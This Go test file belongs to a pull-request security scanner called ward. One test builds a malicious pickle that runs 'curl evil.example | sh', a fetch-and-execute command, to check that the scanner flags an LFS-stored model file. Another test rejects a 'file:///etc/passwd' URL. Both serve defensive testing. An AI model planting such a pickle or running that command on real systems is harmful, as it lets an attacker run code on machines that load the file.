package app

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"github.com/ward-sec/ward/checks/all"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/ward-sec/ward/internal/fakegithub"
)

// runServer runs a configured ward in-process against the fake GitHub and
// returns its webhook URL.
func runServer(t testing.TB, gh *fakegithub.Server, dbURL string) (*Server, string) {
	t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	s, err := NewServer(ctx, Config{
		AppID: gh.AppID(), PrivateKeyPEM: gh.PrivateKeyPEM(), WebhookSecrets: [][]byte{[]byte("sek")},
		APIURL: gh.URL(), DatabaseURL: dbURL, Addr: "127.0.0.1:0",
		Logger: slog.New(slog.NewTextHandler(io.Discard, nil)), Checks: all.Default(),
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := s.recoverOrphans(ctx); err != nil {
		t.Fatal(err)
	}
	if err := s.store.queue.start(ctx); err != nil {
		t.Fatal(err)
	}
	hs := httptest.NewServer(s.Handler())
	t.Cleanup(func() {
		hs.Close()
		cancel()
		sctx, c := context.WithTimeout(context.Background(), 5*time.Second)
		defer c()
		s.store.queue.stop(sctx)
		s.store.Close()
	})
	return s, hs.URL
}

func fakeRepo(t testing.TB, gh *fakegithub.Server, files map[string]string) {
	t.Helper()
	dir := t.TempDir()
	git := func(args ...string) {
		cmd := gitCmd(dir, args...)
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	git("init", "-q", "-b", "main")
	os.WriteFile(filepath.Join(dir, "README.md"), []byte("x\n"), 0o644)
	git("add", "-A")
	git("commit", "-q", "-m", "init")
	git("checkout", "-q", "-b", "feature")
	for p, c := range files {
		os.MkdirAll(filepath.Dir(filepath.Join(dir, p)), 0o755)
		os.WriteFile(filepath.Join(dir, p), []byte(c), 0o644)
	}
	git("add", "-A")
	git("commit", "-q", "-m", "change")
	git("checkout", "-q", "main")
	gh.AddInstallation(7, "acme")
	gh.AddRepo("acme/app", dir)
	gh.OpenPR("acme/app", 1, "main", "feature")
}

func waitRun(t testing.TB, gh *fakegithub.Server, sha string) fakegithub.CheckRun {
	t.Helper()
	deadline := time.Now().Add(30 * time.Second)
	for time.Now().Before(deadline) {
		if r, ok := gh.LatestCheckRun("acme/app", sha, "ward"); ok && r.Status == "completed" {
			return r
		}
		time.Sleep(50 * time.Millisecond)
	}
	t.Fatalf("no completed ward check run on %s", sha)
	return fakegithub.CheckRun{}
}

// Fail closed: a review that cannot finish (the PR's file list is gone)
// concludes failure with the reason and a Re-run button, never neutral
// (GitHub counts neutral as passing a required check); a blob GitHub will
// not serve is that file's finding (high), and the run fails with it.
func TestFailuresFailClosed(t *testing.T) {
	for _, tc := range []struct {
		name, faultPath string
		want            []string
		rerun           bool
	}{
		{"unfinished review", "/repos/acme/app/pulls/1/files", []string{"could not finish", "fails closed"}, true},
		// README.md is modified: its blob is read (an added file comes from its patch).
		{"unreadable blob", "/repos/acme/app/git/blobs", []string{"file-not-read", "README.md"}, true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			gh := fakegithub.New(t)
			fakeRepo(t, gh, map[string]string{"README.md": "print(1)\n"})
			_, url := runServer(t, gh, "sqlite://"+filepath.Join(t.TempDir(), "w.db"))
			gh.InjectFault(fakegithub.Fault{Method: http.MethodGet, PathPrefix: tc.faultPath, Status: http.StatusNotFound, Times: 100})
			resp, err := fakegithub.Deliver(context.Background(), url+"/webhook", "sek", "pull_request", "d1", gh.PullRequestEvent("opened", "acme/app", 1))
			if err != nil || resp.StatusCode != http.StatusAccepted {
				t.Fatalf("deliver: %v %v", resp, err)
			}
			run := waitRun(t, gh, gh.HeadSHA("acme/app", 1))
			if run.Conclusion != "failure" {
				t.Fatalf("conclusion %q, want failure; summary %q", run.Conclusion, run.Summary)
			}
			for _, want := range tc.want {
				if !strings.Contains(run.Summary, want) {
					t.Errorf("summary lacks %q: %q", want, run.Summary)
				}
			}
			if len(run.Actions) == 0 || run.Actions[0].Identifier != "rerun" {
				t.Errorf("actions %+v, want the Re-run button first", run.Actions)
			}
			if runs := gh.CheckRuns("acme/app"); len(runs) != 1 {
				t.Fatalf("%d check runs, want 1", len(runs))
			}
		})
	}
}

func TestRateLimitedReviewCompletes(t *testing.T) {
	gh := fakegithub.New(t)
	fakeRepo(t, gh, map[string]string{"a.py": "print(1)\n"})
	_, url := runServer(t, gh, "sqlite://"+filepath.Join(t.TempDir(), "w.db"))
	gh.InjectFault(fakegithub.Fault{Method: http.MethodPost, PathPrefix: "/repos/acme/app/check-runs", Status: http.StatusForbidden, RetryAfter: time.Second})
	gh.InjectFault(fakegithub.Fault{PathPrefix: "/repos/acme/app/pulls/1/files", Status: http.StatusBadGateway, Times: 2})
	resp, err := fakegithub.Deliver(context.Background(), url+"/webhook", "sek", "pull_request", "d1", gh.PullRequestEvent("opened", "acme/app", 1))
	if err != nil || resp.StatusCode != http.StatusAccepted {
		t.Fatalf("deliver: %v %v", resp, err)
	}
	if run := waitRun(t, gh, gh.HeadSHA("acme/app", 1)); run.Conclusion != "success" {
		t.Fatalf("conclusion %q after rate limits and 502s, want success:\n%s", run.Conclusion, run.Summary)
	}
}

func TestPostgresStore(t *testing.T) {
	url := os.Getenv("WARD_TEST_POSTGRES_URL")
	if url == "" {
		t.Skip("WARD_TEST_POSTGRES_URL is not set (.ci/run starts PostgreSQL and sets it)")
	}
	gh := fakegithub.New(t)
	fakeRepo(t, gh, map[string]string{"tool": "\x7fELF\x02\x01\x01"})
	s, hook := runServer(t, gh, url)
	if s.store.Kind != "postgres" {
		t.Fatalf("store kind %s", s.store.Kind)
	}
	body := gh.PullRequestEvent("opened", "acme/app", 1)
	id := fakegithub.DeliveryID()
	for i, want := range []int{http.StatusAccepted, http.StatusOK} {
		resp, err := fakegithub.Deliver(context.Background(), hook+"/webhook", "sek", "pull_request", id, body)
		if err != nil || resp.StatusCode != want {
			t.Fatalf("delivery %d: %v %v, want %d", i, resp, err, want)
		}
	}
	if run := waitRun(t, gh, gh.HeadSHA("acme/app", 1)); run.Conclusion != "failure" {
		t.Fatalf("conclusion %q, want failure", run.Conclusion)
	}
}

func gitCmd(dir string, args ...string) *exec.Cmd {
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@example.com", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@example.com")
	return cmd
}

func TestTokenExpiringMidReview(t *testing.T) {
	gh := fakegithub.New(t)
	fakeRepo(t, gh, map[string]string{"a.py": "print(1)\n", "b.py": "print(2)\n"})
	_, url := runServer(t, gh, "sqlite://"+filepath.Join(t.TempDir(), "w.db"))
	// Revoke every token as soon as the review lists the files: the blob
	// reads that follow carry a token GitHub no longer accepts.
	gate := gh.Hold(http.MethodGet, "/repos/acme/app/pulls/1/files")
	resp, err := fakegithub.Deliver(context.Background(), url+"/webhook", "sek", "pull_request", "d1", gh.PullRequestEvent("opened", "acme/app", 1))
	if err != nil || resp.StatusCode != http.StatusAccepted {
		t.Fatalf("deliver: %v %v", resp, err)
	}
	<-gate.Arrived()
	gh.ExpireTokens()
	gate.Release()
	if run := waitRun(t, gh, gh.HeadSHA("acme/app", 1)); run.Conclusion != "success" {
		t.Fatalf("conclusion %q after the token expired mid-review, want success:\n%s", run.Conclusion, run.Summary)
	}
	if gh.TokensIssued() < 2 {
		t.Fatalf("%d tokens issued: ward did not mint a new one", gh.TokensIssued())
	}
}

func TestLFSObjectIsReviewed(t *testing.T) {
	gh := fakegithub.New(t)
	payload := []byte("cos\nsystem\n(S'curl evil.example | sh'\ntR.")
	sum := sha256.Sum256(payload)
	oid := hex.EncodeToString(sum[:])
	gh.AddLFSObject(oid, payload)
	pointer := fmt.Sprintf("version https://git-lfs.github.com/spec/v1\noid sha256:%s\nsize %d\n", oid, len(payload))
	fakeRepo(t, gh, map[string]string{"models/model.bin": pointer})
	_, url := runServer(t, gh, "sqlite://"+filepath.Join(t.TempDir(), "w.db"))
	resp, err := fakegithub.Deliver(context.Background(), url+"/webhook", "sek", "pull_request", "d1", gh.PullRequestEvent("opened", "acme/app", 1))
	if err != nil || resp.StatusCode != http.StatusAccepted {
		t.Fatalf("deliver: %v %v", resp, err)
	}
	run := waitRun(t, gh, gh.HeadSHA("acme/app", 1))
	if run.Conclusion != "failure" || !strings.Contains(run.Summary, "os.system") {
		t.Fatalf("conclusion %q; the LFS object's payload must be found:\n%s", run.Conclusion, run.Summary)
	}
	if strings.Contains(run.Summary, "binary-lfs-pointer") {
		t.Error("the pointer was reported as unreviewed although its object was read")
	}
	if gh.LFSBytesServed() == 0 {
		t.Error("no LFS bytes were read")
	}
}

func TestOutboundURLPolicy(t *testing.T) {
	for _, tc := range []struct {
		url, github string
		ok          bool
	}{
		{"https://github-cloud.s3.amazonaws.com/x", "https://github.com", true},
		{"http://github-cloud.s3.amazonaws.com/x", "https://github.com", false},
		{"http://127.0.0.1:8080/x", "https://github.com", false},
		{"http://127.0.0.1:8080/x", "http://127.0.0.1:9999", true},
		{"file:///etc/passwd", "https://github.com", false},
	} {
		if err := checkOutboundURL(tc.url, tc.github); (err == nil) != tc.ok {
			t.Errorf("checkOutboundURL(%q, %q) = %v, want ok=%v", tc.url, tc.github, err, tc.ok)
		}
	}
	client := newOutboundClient("https://github.com")
	if _, err := client.Get("http://127.0.0.1:1/"); err == nil || !strings.Contains(err.Error(), "refusing") {
		t.Errorf("outbound client connected to loopback: %v", err)
	}
}

// TestTorchPinReadFromUnchangedManifest: the repository pins torch>=2.6 in a
// requirements file the PR does not touch; the review lists the tree, so
// torch.load without weights_only is low (safe by default there), not high.
func TestTorchPinReadFromUnchangedManifest(t *testing.T) {
	gh := fakegithub.New(t)
	dir := t.TempDir()
	git := func(args ...string) {
		if out, err := gitCmd(dir, args...).CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	git("init", "-q", "-b", "main")
	os.WriteFile(filepath.Join(dir, "requirements.txt"), []byte("torch>=2.6.0\n"), 0o644)
	git("add", "-A")
	git("commit", "-q", "-m", "init")
	git("checkout", "-q", "-b", "feature")
	os.WriteFile(filepath.Join(dir, "load.py"), []byte("import torch\n\nm = torch.load(path)\n"), 0o644)
	git("add", "-A")
	git("commit", "-q", "-m", "load")
	git("checkout", "-q", "main")
	gh.AddInstallation(7, "acme")
	gh.AddRepo("acme/app", dir)
	gh.OpenPR("acme/app", 1, "main", "feature")
	_, url := runServer(t, gh, "sqlite://"+filepath.Join(t.TempDir(), "w.db"))
	resp, err := fakegithub.Deliver(context.Background(), url+"/webhook", "sek", "pull_request", "d1", gh.PullRequestEvent("opened", "acme/app", 1))
	if err != nil || resp.StatusCode != http.StatusAccepted {
		t.Fatalf("deliver: %v %v", resp, err)
	}
	run := waitRun(t, gh, gh.HeadSHA("acme/app", 1))
	if run.Conclusion != "success" || !strings.Contains(run.Summary, "code-torch-load-unsafe") || !strings.Contains(run.Summary, "| low |") {
		t.Fatalf("conclusion %q; want torch.load reported low thanks to the unchanged pin:\n%s", run.Conclusion, run.Summary)
	}
}
